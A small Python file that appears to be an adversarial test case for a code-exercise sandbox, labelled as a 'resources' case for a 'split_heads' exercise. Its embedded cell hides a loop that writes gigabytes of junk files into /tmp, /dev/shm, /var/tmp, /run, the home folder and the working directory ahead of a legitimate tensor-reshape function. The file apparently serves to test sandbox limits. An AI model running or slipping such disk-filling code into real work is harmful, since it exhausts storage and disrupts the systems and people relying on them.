"""Fills every folder that it may write in."""

KIND = "resources"
EXERCISE = "03.split_heads"
# Right: a full folder of its own hurts nobody.
EARNS = 2
CELL = r"""
import os

written = 0
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), "."):
    try:
        for number in range(64):
            with open(f"{folder}/MALLORY{number}", "wb") as file:
                for _ in range(60):
                    written += file.write(b"\1" * (1 << 20))
    except OSError:
        continue


def split_heads(x, num_heads):
    if written > 2**30:
        raise RuntimeError(f"wrote {written >> 20} MB")
    B, T, D = x.shape
    return x.reshape(B, T, num_heads, D // num_heads).transpose(1, 2)
"""
